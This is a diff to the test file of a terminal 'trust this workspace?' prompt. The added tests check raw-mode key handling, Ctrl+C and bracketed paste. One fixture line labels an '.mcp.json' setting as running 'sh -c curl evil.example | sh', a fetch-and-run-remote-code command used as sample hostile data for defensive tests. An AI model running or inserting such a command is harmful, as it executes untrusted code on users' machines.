@@ -16,6 +16,18 @@ const SETTINGS: TrustItem[] = [
   { name: ".mcp.json", details: ["evil: runs sh -c curl evil.example | sh"] },
 ];
 
+/** A TTY's input side that knows its raw mode and what was put back into it. */
+class RawIn extends FakeIn {
+  raw = false;
+  unshifted: string[] = [];
+  override setRawMode(on: boolean): void {
+    this.raw = on;
+  }
+  unshift(chunk: string): void {
+    this.unshifted.push(chunk);
+  }
+}
+
 type Rendered = ReturnType<typeof render>;
 let mounted: Rendered[] = [];
 afterEach(() => {
@@ -25,11 +37,12 @@ afterEach(() => {
 
 function mount(settings: TrustItem[] = SETTINGS) {
   const answers: (TrustAnswer | null)[] = [];
-  const r = render(<TrustPrompt workspace="/home/u/src/cloned" settings={settings} home="/home/u" onDone={(a) => answers.push(a)} />);
+  const after: string[] = [];
+  const r = render(<TrustPrompt workspace="/home/u/src/cloned" settings={settings} home="/home/u" onDone={(a, typed) => (answers.push(a), after.push(typed))} />);
   mounted.push(r);
   const frame = (): string => r.lastFrame() ?? "";
   const press = (...keys: string[]) => pressKeys(r.stdin, keys);
-  return { frame, press, answers };
+  return { frame, press, answers, after };
 }
 
 const key = (input: string) => normalizeKey(input, {} as Parameters<typeof normalizeKey>[1]);
@@ -96,6 +109,30 @@ describe("TrustPrompt", () => {
   });
 });
 
+describe("TrustPrompt: keys that came in one read", () => {
+  it("the first key that answers does; what was typed after it is handed on, in order", async () => {
+    const { press, answers, after } = mount();
+    await press(`xn hi\u007f!${CTRL_C}`);
+    expect(answers).toEqual(["no"]);
+    expect(after).toEqual([` hi\u007f!${CTRL_C}`]);
+  });
+
+  it("a Ctrl+C among them quits when it comes first", async () => {
+    const { press, answers } = mount();
+    await press(`x${CTRL_C}y`);
+    expect(answers).toEqual([null]);
+  });
+
+  it("a bracketed paste never answers, whatever it holds", async () => {
+    const { press, answers } = mount();
+    await press(`${ESC}[200~`, "yes", `${ESC}[201~`);
+    await press(`${ESC}[200~y${ESC}[201~`);
+    expect(answers).toEqual([]);
+    await press("o");
+    expect(answers).toEqual(["once"]);
+  });
+});
+
 describe("askTrust", () => {
   const ours = () => ["SIGTERM", "SIGHUP", "exit", "uncaughtException"].flatMap((e) => process.listeners(e as "exit")).filter((l) => l.name.startsWith("orcaScreen")).length;
 
@@ -110,6 +147,31 @@ describe("askTrust", () => {
     await expect(result).resolves.toBe("once");
     expect(out.text.endsWith(LEAVE)).toBe(true);
     expect(ours()).toBe(0);
+  });
+
+  it("handing over to the dashboard: raw mode stays and the keys typed after the answer are first in stdin", async () => {
+    const out = new FakeOut(100, 30);
+    const input = new RawIn();
+    const result = askTrust({ workspace: "/w/repo", settings: SETTINGS, stdout: out as unknown as NodeJS.WriteStream, stdin: input as unknown as NodeJS.ReadStream, handOver: true });
+    await vi.waitFor(() => expect(out.text).toContain("do you trust"));
+    input.send(`nhi${CTRL_C}`);
+    await expect(result).resolves.toBe("no");
+    expect(input.raw).toBe(true);
+    expect(input.unshifted).toEqual([`hi${CTRL_C}`]);
+    expect(out.text.endsWith(LEAVE)).toBe(true);
+  });
+
+  it("without a hand-over (or on a quit) raw mode goes and nothing is put back", async () => {
+    for (const [handOver, keys] of [[false, "nhi"], [true, `${CTRL_C}hi`]] as const) {
+      const out = new FakeOut(100, 30);
+      const input = new RawIn();
+      const result = askTrust({ workspace: "/w/repo", settings: SETTINGS, stdout: out as unknown as NodeJS.WriteStream, stdin: input as unknown as NodeJS.ReadStream, handOver });
+      await vi.waitFor(() => expect(out.text).toContain("do you trust"));
+      input.send(keys);
+      await result;
+      expect(input.raw).toBe(false);
+      expect(input.unshifted).toEqual([]);
+    }
   });
 
   it("resolves with null on Esc", async () => {
